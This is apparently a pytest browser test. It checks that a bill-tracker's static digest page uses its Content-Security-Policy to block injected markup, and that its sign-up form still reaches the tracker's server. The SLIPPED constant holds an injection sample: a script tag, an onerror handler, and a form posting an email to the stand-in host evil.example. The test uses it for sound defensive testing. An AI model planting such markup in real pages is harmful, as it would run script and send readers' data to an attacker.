"""The digest as a static host serves it (no headers of ours: the page's own Content-Security-Policy
`<meta>`), opened in headless Chromium: its styles apply, its sign-up form posts to `tracker serve`
on another origin, and markup that reached a page unescaped (as a missed escape of a source's text
would put it there) runs no script and sends no form elsewhere."""

from __future__ import annotations

import functools
import os
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from alerting import POLICE, core_team, write_config
from recorded import federal, serve_legislators
from servers import Mailbox
from serving import free_port, running, wait_for

from tracker.config import load_config
from tracker.crawl import run_crawls
from tracker.digest import write_site
from tracker.store import Store

CHROMIUM = "/usr/bin/chromium"
CHROMIUM_ARGS = ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update",
                 "--disable-sync", "--no-first-run"]
S35 = "/bulkdata/BILLSTATUS/117/s/BILLSTATUS-117s35.xml"
# Markup a missed escape would let through: a script, a handler, a form sending a reader's typing away.
SLIPPED = (b'<script>document.title = "ran";</script><img src="x:" onerror="document.title = \'ran\'">'
           b'<form id="away" method="post" action="https://evil.example/collect"><input name="email" value="a@b.c">'
           b'<button id="send-away">Send</button></form>')

pytestmark = [pytest.mark.slow, pytest.mark.browser]


class _Quiet(SimpleHTTPRequestHandler):
    def log_message(self, format: str, *args: Any) -> None:
        pass


@contextmanager
def static_host(folder: Path) -> Iterator[str]:
    """The site's folder served as files, as nginx or any static host would (no security header)."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(_Quiet, directory=str(folder)))
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()
        server.server_close()


def test_the_static_digest_runs_no_slipped_script_and_signs_up_only_with_tracker_serve(
        tmp_path: Path, sqlite_url: str, mailbox: Mailbox, replay: Any) -> None:
    if not os.path.exists(CHROMIUM):
        if os.environ.get("CI", "").lower() in ("1", "true", "yes"):
            pytest.fail("chromium is required under CI=true")
        pytest.skip("chromium not installed")
    from playwright.sync_api import sync_playwright

    replay.add(S35, federal("BILLSTATUS-117s35.xml"))
    port = free_port()
    signup_server = f"http://127.0.0.1:{port}"
    mail = f"mailto://127.0.0.1:{mailbox.port}?smtp=127.0.0.1&from=alerts@example.org&user=&pass="
    path = write_config(
        tmp_path, db_url=sqlite_url, bills=[POLICE], subscribers=[core_team(f"{mail}&to=team@example.org")],
        alerts={"max_tries": 3, "retry_seconds": 60, "timeout_seconds": 5, "mail_url": mail},
        extra=(f'[digest]\nout = "site"\n[serve]\nport = {port}\npublic_url = "{signup_server}"\n'
               f'[crawl]\ndelay_seconds = 0\n[sources.govinfo]\nbase_url = "{replay.url}"\n'
               f'[sources.legislators]\nbase_url = "{serve_legislators(replay)}"\n'))
    config = load_config(path, env={})
    store = Store(config.database_url)
    run_crawls(config, store, ["police"])
    site = write_site(store, config, config.digest_dir)
    index = (site / "index.html").read_bytes()
    (site / "slipped.html").write_bytes(index.replace(b"</main>", SLIPPED + b"</main>", 1))

    with static_host(site) as host, running(config), sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        try:
            page = browser.new_page()
            page.goto(f"{host}/index.html")
            # the page's own styles apply (inline `<style>`)
            assert page.evaluate("getComputedStyle(document.body).fontSize") == "16px"
            title = page.title()

            slipped = browser.new_page()
            blocked: list[str] = []
            slipped.on("console", lambda message: blocked.append(message.text))
            slipped.goto(f"{host}/slipped.html")
            assert slipped.title() == title  # neither the script nor the handler ran
            slipped.click("#send-away", no_wait_after=True)
            slipped.wait_for_timeout(300)
            assert slipped.url == f"{host}/slipped.html"  # the form sent nothing away
            assert any("Content Security Policy" in line for line in blocked), blocked

            # the real form posts to `tracker serve`, another origin: the policy lets it. A static
            # copy holds no CSRF token, so serve answers with a fresh form of its own, which signs up.
            page.get_by_label("Email address").fill("reader@example.org")
            page.get_by_role("button", name="Sign up").click()
            page.wait_for_load_state()
            assert page.url == f"{signup_server}/subscribe"
            page.get_by_label("Email address").fill("reader@example.org")
            page.get_by_role("button", name="Sign up").click()
            page.wait_for_load_state()
            assert page.locator("h1").text_content() == "Check your mail"
        finally:
            browser.close()
    wait_for(lambda: any(rcpt == ["reader@example.org"] for rcpt, _ in mailbox.messages))
